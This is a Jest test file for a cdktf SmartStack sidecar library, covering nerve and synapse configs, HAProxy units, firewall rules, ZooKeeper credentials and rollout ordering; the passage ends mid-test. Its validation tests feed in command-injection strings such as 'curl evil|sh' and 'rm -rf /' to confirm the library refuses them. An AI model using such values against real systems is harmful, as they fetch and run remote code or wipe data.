import { AnnotationMetadataEntryType, TerraformStack, Testing } from 'cdktf';
import { parse } from 'yaml';
import { AgentRuntime, HaproxySidecar, HaproxySidecarProps, HealthCheck, SmartStackService, VdsNode } from '../lib';
import { renderHaproxyConfig } from '../lib/render/haproxy-config';
import { NerveConfig } from '../lib/schema/nerve-config';
import { parseNerveConfig } from '../lib/agent/nerve-config-loader';
import { parseSynapseConfig } from '../lib/agent/synapse-config-loader';
import { SynapseConfig } from '../lib/schema/synapse-config';
import { buildArticleTopology } from '../examples/smartstack-topology';
import { agentsPackage, agentsPackageFileName } from '../lib/cloud-init/agents-package';
import { fileContent, writtenFiles } from './support/cloud-config-files';
import { meshFixture, thrownMessage } from './support/sidecar-fixtures';

const VERSION = require('../package.json').version as string;

function userData(host: VdsNode): { doc: any; text: string } {
  const text = host.renderUserData();
  return { doc: parse(text), text };
}

function article() {
  const f = meshFixture();
  return { ...f, ...buildArticleTopology(f.stack, f.zk) };
}

function warnings(stack: TerraformStack): string[] {
  return stack.node
    .findAll()
    .flatMap((c) => c.node.metadata)
    .filter((m) => m.type === AnnotationMetadataEntryType.WARN)
    .map((m) => String(m.data));
}

describe('HaproxySidecar on the article topology', () => {
  test('a provider host gets nerve, its config, a user, the pinned agents and a firewall rule; no HAProxy', () => {
    const { app1 } = article();
    const { doc, text } = userData(app1);
    expect(doc.packages).toEqual(['nftables', 'nodejs']);
    const files = writtenFiles(text);
    expect([...files.keys()].filter((p) => /nerve|synapse|haproxy|firewall|nftables/.test(p))).toEqual([
      '/etc/smartstack/nerve.conf.json',
      '/etc/smartstack/nftables.nft',
      '/etc/systemd/system/smartstack-firewall.service',
      '/etc/systemd/system/smartstack-nerve.service',
    ]);
    const nerve = JSON.parse(fileContent(text, '/etc/smartstack/nerve.conf.json')) as NerveConfig;
    expect(nerve).toEqual({
      instance_id: 'app1',
      services: {
        'user-service': {
          host: '10.10.0.55',
          port: 8080,
          reporter_type: 'zookeeper',
          zk_hosts: ['10.10.0.11:2181', '10.10.0.12:2181', '10.10.0.13:2181'],
          zk_path: '/services/user-service',
          check_interval: 2,
          checks: [{ type: 'http', name: 'user-service http /health', uri: '/health', timeout: 1, rise: 3, fall: 2 }],
          zk_auth_file: '/run/credentials/smartstack-nerve.service/zookeeper-zk-registrar-user-service.json',
          zk_read_acl: ['digest:reader:@@secret:test/zk/reader/digest@@'],
        },
      },
      metrics_port: 3213,
    });
    const unit = fileContent(text, '/etc/systemd/system/smartstack-nerve.service');
    expect(unit).toContain('ExecStart=/usr/local/bin/smartstack nerve --config /etc/smartstack/nerve.conf.json');
    expect(unit).toContain('User=nerve');
    const steps = fileContent(text, '/usr/lib/smartstack/host-steps.sh');
    expect(steps).toContain('useradd --system --user-group --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin nerve');
    // The agents come with the delivery: the archive of this very package, by checksum, no npm.
    const { sha256 } = agentsPackage();
    expect(steps).toContain(`begin 'agents'\\'' package cdktf-smartstack ${VERSION}'`);
    expect(steps).toContain(`archive=/var/lib/smartstack/agents/${sha256}.tgz`);
    expect(steps).not.toContain('npm install');
    expect(doc.runcmd).toEqual([['sh', '/usr/lib/smartstack/host-steps.sh']]);
    // An apply reloads nerve (SIGHUP keeps unchanged registrations) unless what it reads only at start changed.
    expect(unit).toContain('ExecReload=/bin/kill -HUP $MAINPID');
    expect(steps).toContain('restart_or_reload smartstack-nerve.service /etc/smartstack/credentials/zookeeper-zk-registrar-user-service.json /usr/local/bin/smartstack');
    expect(steps).not.toMatch(/^run systemctl restart .*smartstack-nerve/m);
    // Open to the consumer (web1, whose sidecar came later), not to the whole network.
    expect(fileContent(text, '/etc/smartstack/nftables.nft')).toContain(
      'tcp dport { 8080 } ip saddr { 10.10.0.30/32 } accept comment "smartstack user-service provided"',
    );
  });

  test('a provided port opens to each consumer, whichever sidecar comes first, and to the service clientNetworks', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210, clientNetworks: ['192.168.7.0/24'] });
    const web1 = f.host('web1', 30);
    new HaproxySidecar(web1, 'sidecar', { consumes: [users] });
    const app1 = f.host('app1', 55);
    new HaproxySidecar(app1, 'sidecar', { provides: [users] });
    new HaproxySidecar(f.host('web2', 31), 'sidecar', { consumes: [users] });
    const nft = fileContent(app1.renderUserData(), '/etc/smartstack/nftables.nft');
    expect(nft).toContain('tcp dport { 8080 } ip saddr { 10.10.0.30/32, 10.10.0.31/32, 192.168.7.0/24 } accept comment "smartstack user-service provided"');
    expect(nft).toContain('tcp dport { 8080 } drop comment "smartstack user-service provided: everyone else"');
    expect(nft.match(/dport \{ 8080 \}/g)).toHaveLength(2);
    // Each sidecar host may reach the ensemble's client port; others on the network may not.
    const member = fileContent(f.zk.members[0].renderUserData(), '/etc/smartstack/nftables.nft');
    expect(member).toContain('tcp dport { 2181 } ip saddr { 10.10.0.11/32, 10.10.0.12/32, 10.10.0.13/32, 10.10.0.30/32, 10.10.0.31/32, 10.10.0.55/32 } accept');
  });

  test('with ZooKeeper ACLs each agent gets its identity as a credential only its unit can read', () => {
    const { app1, web1 } = article();
    const provider = userData(app1).text;
    expect(writtenFiles(provider).get('/etc/smartstack/credentials/zookeeper-zk-registrar-user-service.json')).toMatchObject({ permissions: '0600', owner: 'root:root' });
    const credentials = JSON.parse(fileContent(provider, '/etc/smartstack/credentials/zookeeper-zk-registrar-user-service.json'));
    expect(credentials).toEqual({ scheme: 'digest', user: 'registrar-user-service', password: '@@secret:test/zk/registrar-user-service/password@@' });
    expect(fileContent(provider, '/etc/systemd/system/smartstack-nerve.service')).toContain(
      'LoadCredential=zookeeper-zk-registrar-user-service.json:/etc/smartstack/credentials/zookeeper-zk-registrar-user-service.json',
    );
    const consumer = userData(web1).text;
    expect(JSON.parse(fileContent(consumer, '/etc/smartstack/synapse.conf.json')).services['user-service'].discovery.auth_file).toBe(
      '/run/credentials/smartstack-synapse.service/zookeeper-zk-reader.json',
    );
    expect(fileContent(consumer, '/etc/systemd/system/smartstack-synapse.service')).toContain('LoadCredential=zookeeper-zk-reader.json:/etc/smartstack/credentials/zookeeper-zk-reader.json');
    // A consumer holds no registrar's password, a provider not the reader's.
    expect([...writtenFiles(consumer).keys()].filter((p) => p.includes('credentials'))).toEqual(['/etc/smartstack/credentials/zookeeper-zk-reader.json']);
    expect([...writtenFiles(provider).keys()].filter((p) => p.includes('credentials'))).toEqual(['/etc/smartstack/credentials/zookeeper-zk-registrar-user-service.json']);
  });

  test('the Ruby agents cannot authenticate: with ACLs on they are refused, naming the ensemble', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
    expect(thrownMessage(() => new HaproxySidecar(f.host('app1', 55), 'sidecar', { provides: [users], runtime: AgentRuntime.ruby() }))).toBe(
      "HaproxySidecar 'test/app1/sidecar': runtime = \"ruby\": Airbnb's nerve and synapse cannot authenticate to ZooKeeper, and ensemble test/zk (of user-service) has ACLs: use AgentRuntime.node(), or acls: false on the ensemble",
    );
  });

  test('a consumer host gets synapse, a bootstrap haproxy.cfg, HAProxy in master-worker mode and no open port', () => {
    const { web1 } = article();
    const { doc, text } = userData(web1);
    expect(doc.packages).toEqual(['haproxy', 'nodejs', 'socat']);
    const synapse = JSON.parse(fileContent(text, '/etc/smartstack/synapse.conf.json')) as SynapseConfig;
    expect(synapse.services['user-service'].haproxy).toMatchObject({ port: 3210, bind_address: '127.0.0.1' });
    expect(synapse.services['user-service'].discovery.hosts).toEqual(['10.10.0.11:2181', '10.10.0.12:2181', '10.10.0.13:2181']);
    expect(synapse.metrics_port).toBe(3214);

    const bootstrap = fileContent(text, '/etc/smartstack/haproxy-bootstrap.cfg');
    expect(bootstrap).toMatch(/bind 127\.0\.0\.1:3210/);
    expect(bootstrap).toMatch(/stats socket \/run\/smartstack-haproxy\/admin\.sock mode 600 level admin user synapse/);

    const unit = fileContent(text, '/etc/systemd/system/smartstack-haproxy.service');
    expect(unit).toContain('ExecStart=/usr/sbin/haproxy -Ws -S /run/smartstack-haproxy/master.sock,mode,600,user,synapse -f /var/lib/smartstack/haproxy/haproxy.cfg');
    expect(unit).toContain('ExecReload=/bin/kill -USR2 $MAINPID');
    expect(unit).toContain('Type=notify');
    // 2 x maxconn 4096 + 16 slots + 1024.
    expect(unit).toContain('LimitNOFILE=9232');
    expect(fileContent(text, '/etc/systemd/system/smartstack-synapse.service')).toContain(
      'ExecStart=/usr/local/bin/smartstack synapse --config /etc/smartstack/synapse.conf.json',
    );

    // HAProxy is reloaded (or started), never restarted by an apply; synapse is restarted.
    const steps = fileContent(text, '/usr/lib/smartstack/host-steps.sh');
    expect(steps.match(/^run systemctl restart .*$/gm)).toEqual(['run systemctl restart smartstack-synapse.service']);
    expect(steps).toContain("run 'systemctl' 'reload-or-restart' 'smartstack-haproxy.service'");
    expect(steps).toContain("run 'install' '-d' '-o' 'synapse' '-g' 'haproxy' '-m' '0750' '/var/lib/smartstack/haproxy'");
    // Every unit, HAProxy's too, must be active for the apply to succeed.
    expect(steps).toContain('units_active smartstack-haproxy.service smartstack-synapse.service');
    // Everything it listens on is on 127.0.0.1: no firewall rule needed.
    expect(writtenFiles(text).has('/etc/smartstack/nftables.nft')).toBe(false);
  });

  test("the agents' own loaders accept the rendered files, and synapse renders the same haproxy.cfg from them", () => {
    const { sidecars } = article();
    const [app1, , web1] = sidecars;
    // As the host receives it: Terraform puts the reader's digest in place of its placeholder.
    const nerve = parseNerveConfig(JSON.parse(app1.nerveConfigJson!.replace(/@@secret:[a-z0-9./-]+@@/g, 'jx4XZjUtHAFGFr652rhfH6zUS4ev+mgnV0QnSWe/n+w=')));
    expect(nerve.instanceId).toBe('app1');
    expect(nerve.services[0]).toMatchObject({ name: 'user-service', host: '10.10.0.55', port: 8080, zkPath: '/services/user-service', checkIntervalMs: 2000 });
    expect(nerve.services[0].checks[0]).toMatchObject({ type: 'http', uri: '/health', timeoutMs: 1000, rise: 3, fall: 2, host: '10.10.0.55', port: 8080 });

    const synapse = parseSynapseConfig(JSON.parse(web1.synapseConfigJson!));
    expect(synapse.services[0]).toMatchObject({ name: 'user-service', port: 3210, bindAddress: '127.0.0.1', serverSlots: 16, usePreviousBackends: true });
    expect(synapse.haproxy).toMatchObject({
      configFilePath: '/var/lib/smartstack/haproxy/haproxy.cfg',
      socketFilePath: '/run/smartstack-haproxy/admin.sock',
      masterSocketFilePath: '/run/smartstack-haproxy/master.sock',
      doWrites: true, doReloads: true, doSocket: true,
    });
    expect(renderHaproxyConfig(synapse.config, {})).toBe(web1.haproxyBootstrapConfig);
  });

  test('the Terraform document keeps $MAINPID literal and synthesizes the same bytes twice', () => {
    const a = article();
    const b = article();
    expect(a.web1.renderUserData()).toBe(b.web1.renderUserData());
    const json = JSON.parse(Testing.synth(a.stack));
    const web1 = Object.values(json.resource.null_resource as Record<string, any>).find((r) => r.connection.host === '10.10.0.30');
    expect(web1.provisioner[1].file.content).toContain('kill -USR2 $MAINPID');
  });

  test('every port it uses is reserved on the host', () => {
    const { web1, app1 } = article();
    const clash = (host: VdsNode, port: number) => thrownMessage(() => host.reservePort(port, host, 'probe'));
    expect(clash(web1, 3210)).toContain('already used by test/web1/sidecar (consumes[user-service].localPort)');
    expect(clash(web1, 3212)).toContain('already used by test/web1/sidecar (statsPort)');
    expect(clash(web1, 3214)).toContain('already used by test/web1/sidecar (runtime.synapseMetricsPort)');
    expect(clash(app1, 8080)).toContain('already used by test/app1/sidecar (provides[0].port)');
    expect(clash(app1, 3213)).toContain('already used by test/app1/sidecar (runtime.nerveMetricsPort)');
  });
});

describe('HaproxySidecar options', () => {
  test('the Ruby runtime installs the pinned gems and runs them on the same files, without metrics ports', () => {
    // Airbnb's agents cannot authenticate to ZooKeeper.
    const f = meshFixture({ acls: false });
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
    const both = f.host('app1', 55);
    new HaproxySidecar(both, 'sidecar', { provides: [users], consumes: [users], runtime: AgentRuntime.ruby() });
    const { doc, text } = userData(both);
    expect(doc.packages).toEqual(expect.arrayContaining(['ruby', 'ruby-dev', 'build-essential', 'haproxy']));
    expect(doc.packages).not.toContain('nodejs');
    const steps = fileContent(text, '/usr/lib/smartstack/host-steps.sh');
    expect(steps).toContain("run 'sh' '-c' 'gem list -i -e nerve -v 0.9.7 >/dev/null || gem install --no-document nerve -v 0.9.7'");
    expect(steps).toContain("run 'sh' '-c' 'gem list -i -e synapse -v 0.18.9 >/dev/null || gem install --no-document synapse -v 0.18.9'");
    expect(fileContent(text, '/etc/systemd/system/smartstack-nerve.service')).toContain('ExecStart=/usr/local/bin/nerve --config /etc/smartstack/nerve.conf.json');
    expect(fileContent(text, '/etc/systemd/system/smartstack-synapse.service')).toContain('ExecStart=/usr/local/bin/synapse --config /etc/smartstack/synapse.conf.json');
    expect(JSON.parse(fileContent(text, '/etc/smartstack/nerve.conf.json'))).not.toHaveProperty('metrics_port');
    expect(JSON.parse(fileContent(text, '/etc/smartstack/synapse.conf.json'))).not.toHaveProperty('metrics_port');
  });

  test('the agents travel with the delivery: uploaded from the stack, checked by checksum, a trigger of the host', () => {
    const { app1, web1, stack } = article();
    const synthesized = JSON.parse(Testing.synth(stack));
    const { sha256, version } = agentsPackage();
    const asset = Object.keys(synthesized).length > 0 && JSON.stringify(synthesized);
    for (const host of [app1, web1]) {
      const resource = synthesized.resource.null_resource[Object.keys(synthesized.resource.null_resource).find((k) => k.startsWith(`${host.hostname}_cloud-init`))!];
      expect(resource.triggers.agents_sha256).toBe(sha256);
      const uploads = resource.provisioner.filter((p: any) => p.file?.source);
      expect(uploads).toEqual([{ file: { source: expect.stringMatching(new RegExp(`^assets/.+/cdktf-smartstack-agents-${version}\\.tgz$`)), destination: `/tmp/smartstack-${host.hostname}/agents.tgz` } }]);
      // The upload comes before the apply script runs.
      expect(Object.keys(resource.provisioner[resource.provisioner.length - 1])).toEqual(['remote-exec']);
      expect(host.renderApplyScript()).toContain(`= ${sha256} ] || fail`);
    }
    expect(asset).not.toContain('"npm"');
  });

  test('agents from an npm registry of the user: npm on the host, no upload; another version needs a registry', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
    const app1 = f.host('app1', 55);
    new HaproxySidecar(app1, 'sidecar', { provides: [users], runtime: AgentRuntime.node({ npmRegistry: 'https://npm.example.org/', version: '0.2.0' }) });
    const { doc, text } = userData(app1);
    expect(doc.packages).toEqual(['nftables', 'nodejs', 'npm']);
    expect(fileContent(text, '/usr/lib/smartstack/host-steps.sh')).toContain(
      'npm install -g --no-fund --no-audit --legacy-peer-deps --registry https://npm.example.org/ cdktf-smartstack@0.2.0',
    );
    expect(app1.renderApplyScript()).not.toContain('agents.tgz');
    expect(thrownMessage(() => AgentRuntime.node({ version: '0.0.9' }))).toBe(
      `AgentRuntime.node: version = "0.0.9": the uploaded agents are this package's own version ${VERSION}; to install another version, publish it and set npmRegistry`,
    );
    expect(thrownMessage(() => AgentRuntime.node({ npmRegistry: 'https://npm.example.org', version: '1.0.0;curl evil|sh' }))).toContain('AgentRuntime.node: version = "1.0.0;curl evil|sh": expected');
    expect(thrownMessage(() => AgentRuntime.node({ npmRegistry: 'https://x.org/ --unsafe-perm' }))).toContain('AgentRuntime.node: npmRegistry = "https://x.org/ --unsafe-perm": expected');
  });

  test('a host booted from userData fetches the agents from packageUrl, checks the checksum before using it, and installs curl for it', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
    const app1 = new VdsNode(f.stack, 'app1', { privateAddress: '10.10.0.55', memoryMiB: 2048, deliverOverSsh: false });
    const url = `https://files.example.org/smartstack/${agentsPackageFileName()}`;
    new HaproxySidecar(app1, 'sidecar', { provides: [users], runtime: AgentRuntime.node({ packageUrl: url }) });
    const { doc, text } = userData(app1);
    expect(doc.packages).toEqual(['curl', 'nftables', 'nodejs']);
    const steps = fileContent(text, '/usr/lib/smartstack/host-steps.sh');
    const { sha256 } = agentsPackage();
    expect(steps).toContain(`curl -fsSL --retry 5 --retry-connrefused --connect-timeout 10 --max-time 300 -o "$archive.partial" ${url}`);
    // Checked before it is stored where the install step takes it from.
    expect(steps.indexOf(`[ "$got" = ${sha256} ]`)).toBeLessThan(steps.indexOf('mv "$archive.partial" "$archive"'));
    const local = new VdsNode(f.stack, 'app2', { privateAddress: '10.10.0.56', memoryMiB: 2048, deliverOverSsh: false });
    new HaproxySidecar(local, 'sidecar', { provides: [users], runtime: AgentRuntime.node({ packageUrl: 'file:///opt/smartstack/agents.tgz' }) });
    expect(fileContent(local.renderUserData(), '/usr/lib/smartstack/host-steps.sh')).toContain('cp -- /opt/smartstack/agents.tgz "$archive.partial"');
    expect(userData(local).doc.packages).toEqual(['nftables', 'nodejs']);
  });

  test('a host delivered over SSH gets the upload, whatever packageUrl says; bad packageUrl values are refused', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
    const app1 = f.host('app1', 55);
    new HaproxySidecar(app1, 'sidecar', { provides: [users], runtime: AgentRuntime.node({ packageUrl: 'https://files.example.org/agents.tgz' }) });
    expect(fileContent(app1.renderUserData(), '/usr/lib/smartstack/host-steps.sh')).not.toContain('files.example.org');
    for (const bad of ['ftp://files.example.org/a.tgz', 'https://x.org/a.tgz; curl evil|sh', 'file://relative/a.tgz', 'https://x.org/']) {
      expect(thrownMessage(() => AgentRuntime.node({ packageUrl: bad }))).toContain(`AgentRuntime.node: packageUrl = ${JSON.stringify(bad)}: expected an http://, https:// or file:/// URL of a file`);
    }
    expect(thrownMessage(() => AgentRuntime.node({ packageUrl: 'https://x.org/a.tgz', npmRegistry: 'https://npm.example.org' }))).toBe(
      'AgentRuntime.node: packageUrl = "https://x.org/a.tgz": the agents come either from npmRegistry or from packageUrl: set one',
    );
  });

  test('a sidecar on a host booted from userData with nothing to bring it the agents is refused, saying what to set', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
    const app1 = new VdsNode(f.stack, 'app1', { privateAddress: '10.10.0.55', memoryMiB: 2048, deliverOverSsh: false });
    expect(thrownMessage(() => new HaproxySidecar(app1, 'sidecar', { provides: [users] }))).toBe(
      `HaproxySidecar 'test/app1/sidecar': runtime.packageUrl = "none": host app1 is not delivered over SSH, so nothing uploads the agents' package to it: ` +
        `set AgentRuntime.node({ packageUrl: 'https://.../${agentsPackageFileName()}' }) (or a file:/// path your image places) for the host to fetch at its first boot, ` +
        'or AgentRuntime.node({ npmRegistry }), or deliver the host over SSH',
    );
  });

  test("a consumer host stops and disables Debian's own haproxy.service before starting the sidecar's", () => {
    const { web1 } = article();
    const steps = fileContent(web1.renderUserData(), '/usr/lib/smartstack/host-steps.sh');
    expect(steps).toContain('run systemctl disable --now haproxy.service');
    expect(steps.indexOf('disable --now haproxy.service')).toBeLessThan(steps.indexOf("'systemctl' 'reload-or-restart' 'smartstack-haproxy.service'"));
  });

  test('providers of a service roll in batches: each waits for the one maxUnavailableProviders places before it', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080 });
    const orders = new SmartStackService(f.stack, 'orders', { ensemble: f.zk, port: 8081, maxUnavailableProviders: 2 });
    const hosts = [55, 56, 57, 58].map((n, i) => f.host(`app${i + 1}`, n));
    hosts.forEach((h) => new HaproxySidecar(h, 'sidecar', { provides: [users, orders] }));
    const resources = JSON.parse(Testing.synth(f.stack)).resource.null_resource;
    const waitsFor = (host: string) => {
      const key = Object.keys(resources).find((k) => k.startsWith(`${host}_cloud-init`))!;
      return (resources[key].depends_on ?? []).map((d: string) => /null_resource\.(\w+?)_cloud-init/.exec(d)![1]).sort();
    };
    // user-service one at a time; orders two at a time (app3 after app1, app4 after app2).
    expect([1, 2, 3, 4].map((i) => waitsFor(`app${i}`))).toEqual([[], ['app1'], ['app1', 'app2'], ['app2', 'app3']]);
    // Each provider's apply returns once nerve has registered its services again.
    const script = hosts[1].renderApplyScript();
    expect(script).toContain("begin 'nerve registers orders, user-service again'");
    expect(script).toContain('for service in orders user-service; do');
  });

  test('maxUnavailableProviders as a percentage: a share of the providers, rounded down, at least 1; bad values refused by name', () => {
    const f = meshFixture();
    const quarter = new SmartStackService(f.stack, 'quarter', { ensemble: f.zk, port: 8081, maxUnavailableProviders: '25%' });
    const tenth = new SmartStackService(f.stack, 'tenth', { ensemble: f.zk, port: 8082, maxUnavailableProviders: '10%' });
    const hosts = [1, 2, 3, 4, 5, 6, 7, 8].map((i) => f.host(`app${i}`, 54 + i));
    hosts.forEach((h, i) => new HaproxySidecar(h, 'sidecar', { provides: i < 4 ? [quarter, tenth] : [quarter] }));
    expect([quarter.providersAtOnce(8), tenth.providersAtOnce(4), quarter.providersAtOnce(3)]).toEqual([2, 1, 1]);
    const resources = JSON.parse(Testing.synth(f.stack)).resource.null_resource;
    const waitsFor = (host: string) => {
      const key = Object.keys(resources).find((k) => k.startsWith(`${host}_cloud-init`))!;
      return (resources[key].depends_on ?? []).map((d: string) => /null_resource\.(\w+?)_cloud-init/.exec(d)![1]).sort();
    };
    // quarter: 8 providers, 2 at a time; tenth: 4 providers, 10% rounds down to 0, so 1 at a time.
    expect(hosts.map((_h, i) => waitsFor(`app${i + 1}`))).toEqual([[], ['app1'], ['app1', 'app2'], ['app2', 'app3'], ['app3'], ['app4'], ['app5'], ['app6']]);
    for (const [i, bad] of (['0%', '150%', 'abc', '25 %', -1, 0, 2.5] as Array<string | number>).entries()) {
      expect(thrownMessage(() => new SmartStackService(f.stack, `bad${i}`, { ensemble: f.zk, port: 8083, maxUnavailableProviders: bad }))).toBe(
        `SmartStackService 'test/bad${i}': maxUnavailableProviders = ${JSON.stringify(bad)}: expected a whole number from 1 to 1000, or a percentage of the service's providers from '1%' to '100%'`,
      );
    }
  });

  test('an order that would close a cycle with the ensemble rollout is left out, with a warning', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080 });
    // Providers on the members in the reverse of the members' own order: zk2 waits for zk1 already.
    new HaproxySidecar(f.zk.members[1], 'sidecar', { provides: [users] });
    new HaproxySidecar(f.zk.members[0], 'sidecar', { provides: [users] });
    // The rollout is ordered at synth, once every service that could name a host exists.
    expect(() => Testing.synth(f.stack)).not.toThrow();
    expect(warnings(f.stack)).toContainEqual(expect.stringContaining("VdsNode 'test/zk1': not applied after zk2 (providers of user-service roll 1 at a time): zk2 already waits for zk1"));
  });

  test('a per-host port and weight override the service for that host only', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, weight: 10 });
    const app1 = f.host('app1', 55);
    const app2 = f.host('app2', 56);
    new HaproxySidecar(app1, 'sidecar', { provides: [users] });
    new HaproxySidecar(app2, 'sidecar', { provides: [users], providerOverrides: [{ service: users, port: 8081, weight: 0 }] });
    const nerve = (h: VdsNode) => (JSON.parse(fileContent(h.renderUserData(), '/etc/smartstack/nerve.conf.json')) as NerveConfig).services['user-service'];
    expect(nerve(app1)).toMatchObject({ port: 8080, weight: 10 });
    expect(nerve(app2)).toMatchObject({ port: 8081, weight: 0 });
    expect(fileContent(app2.renderUserData(), '/etc/smartstack/nftables.nft')).toContain('tcp dport { 8081 }');
    expect(thrownMessage(() => app2.reservePort(8081, app2, 'probe'))).toContain('test/app2/sidecar (providerOverrides[0].port)');
  });

  test('a service that names its providers is provided by their sidecars without being listed', () => {
    const f = meshFixture();
    const app1 = f.host('app1', 55);
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, providers: [app1] });
    const sidecar = new HaproxySidecar(app1, 'sidecar');
    expect(sidecar.provides).toEqual([users]);
    expect(() => Testing.synth(f.stack, true)).not.toThrow();
  });

  test('maxConnections sizes the descriptor limit', () => {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210, serverSlots: 32 });
    const web1 = f.host('web1', 30);
    new HaproxySidecar(web1, 'sidecar', { consumes: [users], maxConnections: 10000 });
    expect(fileContent(web1.renderUserData(), '/etc/systemd/system/smartstack-haproxy.service')).toContain('LimitNOFILE=21056');
  });
});

describe('HaproxySidecar validation', () => {
  function setup() {
    const f = meshFixture();
    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
    const orders = new SmartStackService(f.stack, 'orders', { ensemble: f.zk, port: 8081, localPort: 3211 });
    const internal = new SmartStackService(f.stack, 'internal', { ensemble: f.zk, port: 9000 });
    return { ...f, users, orders, internal, app1: f.host('app1', 55) };
  }

  // Each bad input: [description, props given the fixture, field, value as shown].
  type Setup = ReturnType<typeof setup>;
  const bad: Array<[string, (s: Setup) => HaproxySidecarProps, string, string]> = [
    ['a service provided twice', (s) => ({ provides: [s.users, s.users] }), 'provides[1]', '"user-service"'],
    ['a service consumed twice', (s) => ({ consumes: [s.users, s.users] }), 'consumes[1]', '"user-service"'],
    ['a consumed service without a local port', (s) => ({ consumes: [s.internal] }), 'consumes[0]', '"internal"'],
    ['an override of a service not provided', (s) => ({ provides: [s.users], providerOverrides: [{ service: s.orders, port: 9001 }] }), 'providerOverrides[0].service', '"orders"'],
    ['an override port of 0', (s) => ({ provides: [s.users], providerOverrides: [{ service: s.users, port: 0 }] }), 'providerOverrides[0].port', '0'],
    ['an override weight of 257', (s) => ({ provides: [s.users], providerOverrides: [{ service: s.users, weight: 257 }] }), 'providerOverrides[0].weight', '257'],
    ['a stats port of 0', (s) => ({ consumes: [s.users], statsPort: 0 }), 'statsPort', '0'],
    ['maxConnections of 0', (s) => ({ consumes: [s.users], maxConnections: 0 }), 'maxConnections', '0'],
    ['a gem version with a newline', (s) => ({ consumes: [s.users], runtime: AgentRuntime.ruby({ synapseVersion: '0.18.9\nrm -rf /' }) }), 'runtime.synapseVersion', '"0.18.9\\nrm -rf /"'],
    ['a stats port equal to a local port', (s) => ({ consumes: [s.users], statsPort: 3210 }), 'statsPort', '3210'],
    ['a local port equal to a provided port', (s) => ({ provides: [s.internal], consumes: [s.users], providerOverrides: [{ service: s.internal, port: 3210 }] }), 'consumes[user-service].localPort', '3210'],
    ['a metrics port equal to the stats port', (s) => ({ consumes: [s.users], runtime: AgentRuntime.node({ synapseMetricsPort: 3212 }) }), 'runtime.synapseMetricsPort', '3212'],
  ];

  test.each(bad)('rejects %s, naming the construct, the field and the value', (_, props, field, shown) => {
    const s = setup();
    const message = thrownMessage(() => new HaproxySidecar(s.app1, 'sidecar', props(s)));
    expect(message).toContain("HaproxySidecar 'test/app1/sidecar'");
    expect(message).toContain(`${field} = ${shown}:`);
  });

  test('a port clash with another role names both', () => {
    const s = setup();
    const zk1 = s.zk.members[0];
    const zkPort = new SmartStackService(s.stack, 'zk-proxy', { ensemble: s.zk, port: 2181 });
    const message = thrownMessage(() => new HaproxySidecar(zk1, 'sidecar', { provides: [zkPort] }));
    expect(message).toBe(
      "HaproxySidecar 'test/zk1/sidecar': provides[0].port = 2181: port 2181 on host zk1 is already used by test/zk (clientPort)",
    );
  });

  test('a sidecar must live in a VdsNode, one per host', () => {
    const s = setup();
    expect(thrownMessage(() => new HaproxySidecar(s.stack as unknown as VdsNode, 'sidecar', { provides: [s.users] }))).toContain(
      "HaproxySidecar 'test/sidecar': scope = \"test\": a HaproxySidecar must be created inside the VdsNode it runs on",
    );
    new HaproxySidecar(s.app1, 'sidecar', { provides: [s.users] });
    expect(thrownMessage(() => new HaproxySidecar(s.app1, 'sidecar2', { consumes: [s.orders] }))).toContain(
      "HaproxySidecar 'test/app1/sidecar2': scope = \"app1\": host app1 already has a sidecar (test/app1/sidecar)",
    );
  });

  test('a sidecar cannot provide a service on a host its providers do not list', () => {
    const s = setup();
    const app2 = s.host('app2', 56);
    const pinned = new SmartStackService(s.stack, 'pinned', { ensemble: s.zk, port: 7000, providers: [app2] });
    expect(thrownMessage(() => new HaproxySidecar(s.app1, 'sidecar', { provides: [pinned] }))).toContain(
      "HaproxySidecar 'test/app1/sidecar': provides[0] = \"pinned\": test/pinned lists its providers (app2) and app1 is not one of them",
    );
  });

  test('a service provided on a host without a sidecar fails synthesis, naming service and host', () => {
    const s = setup();
    const app2 = s.host('app2', 56);
    const app3 = s.host('app3', 57);
    const app4 = s.host('app4', 58);
    new SmartStackService(s.stack, 'billing', { ensemble: s.zk, port: 7000, providers: [app2, app3, app4] });
    new HaproxySidecar(app2, 'sidecar');
    expect(() => Testing.synth(s.stack, true)).toThrow(
      /SmartStackService 'test\/billing': providers includes host app3, but no HaproxySidecar provides billing there[\s\S]*providers includes host app4/,
    );
  });

  test('a service consumed but provided nowhere is a warning, given once', () => {
    const s = setup();
    new HaproxySidecar(s.app1, 'sidecar', { consumes: [s.users, s.orders] });
    const app2 = s.host('app2', 56);
    new HaproxySidecar(app2, 'sidecar', { provides: [s.orders] });
    s.stack.runAllValidations();
    s.stack.runAllValidations();
    const found = warnings(s.stack);
    expect(found).toHaveLength(1);
    expect(found[0]).toContain("SmartStackService 'test/user-service': user-service is consumed on app1 but no HaproxySidecar in this app provides it");
  });

  test('default servers count as a provider for that warning', () => {
    const f = meshFixture();
    const legacy = new SmartStackService(f.stack, 'legacy', {
      ensemble: f.zk, port: 80, localPort: 3300,
      healthCheck: HealthCheck.http({ path: '/' }),
      defaultServers: [{ host: '10.20.0.5', port: 80 }],
    });
    new HaproxySidecar(f.host('web1', 30), 'sidecar', { consumes: [legacy] });
